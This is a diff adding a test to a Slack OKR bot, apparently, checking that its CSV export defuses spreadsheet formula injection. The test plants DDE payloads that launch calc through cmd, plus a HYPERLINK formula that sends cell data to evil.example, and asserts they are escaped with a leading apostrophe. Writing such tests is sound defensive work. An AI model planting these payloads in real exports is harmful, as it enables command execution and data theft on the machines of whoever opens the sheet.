@@ -19,7 +19,7 @@ from okrbot.cli import EXIT_CONFIG, export
 from okrbot.config import ENV_NAMES
 from okrbot.domain.quarters import Quarter
 from okrbot.export_formats import CSV_COLUMNS
-from okrbot.sandbox.harness import AUTHOR, CEO, MANAGER, Sandbox
+from okrbot.sandbox.harness import AUTHOR, CEO, MANAGER, ORG_CSV, Sandbox
 from okrbot.services import export as exporting
 from okrbot.slack import ids
 from okrbot.store.engine import create_engine
@@ -306,6 +306,64 @@ async def test_csv_has_a_row_per_key_result_and_round_trips_free_text(
         "",
         "",
     )
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    box: Sandbox, tmp_path: Path
+) -> None:
+    # Anyone in the workspace types these; whoever opens the sheet would run them.
+    team = "=cmd|' /C calc'!A0"
+    title = '=HYPERLINK("https://evil.example/?d="&A1, "Open")'
+    reason = "+1+cmd|' /C calc'!A0"
+    await box.import_org(ORG_CSV.replace(",Product,", f",{team},"))
+    form = {
+        **GOOD_FORM,
+        "title": title,
+        "quarter": QUARTER,
+        "kr1_desc": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "kr1_start": "-5",
+        "kr1_target": "10",
+        "kr1_unit": "-1+1",
+    }
+    await submit_objective(box, AUTHOR.id, form)
+    [request] = requests_to(box, MANAGER.id)
+    await box.slack.click(MANAGER.id, request, ids.REJECT)
+    await box.settle()
+    reject_view = box.fake.open_views_for(MANAGER.id)[-1]
+    await box.slack.submit_view(MANAGER.id, reject_view["id"], {"reason": reason})
+    await box.settle()
+    async with box.uow(readonly=False) as uow:
+        # Names come from Slack's directory, where people choose their own.
+        await uow.session.execute(
+            update(Person)
+            .where(Person.workspace_id == box.fake.team_id, Person.user_id == AUTHOR.id)
+            .values(display_name="\t=1+1")
+        )
+        await uow.commit()
+
+    path = tmp_path / "q1.csv"
+    assert await _run(box, "csv", path) == 0
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        first, second = list(csv.DictReader(f))
+    assert first["title"] == second["title"] == "'" + title
+    assert first["team"] == "'" + team
+    assert first["owner_name"] == "'\t=1+1"
+    assert first["last_rejection_reason"] == "'" + reason
+    assert (first["kr_description"], first["kr_unit"]) == (
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-1+1",
+    )
+    # Numbers stay numbers, negative ones too; text that starts harmlessly is untouched.
+    assert (first["kr_start"], first["kr_target"]) == ("-5", "10")
+    assert (second["kr_description"], second["kr_unit"]) == (
+        GOOD_FORM["kr2_desc"],
+        GOOD_FORM["kr2_unit"],
+    )
+    # The JSON is data, not a sheet: it keeps what was typed.
+    json_path = tmp_path / "q1.json"
+    assert await _run(box, "json", json_path) == 0
+    [document] = json.loads(json_path.read_text(encoding="utf-8"))["objectives"]
+    assert (document["title"], document["team"]) == (title, team)
 
 
 async def test_csv_goes_to_standard_output_without_a_file(
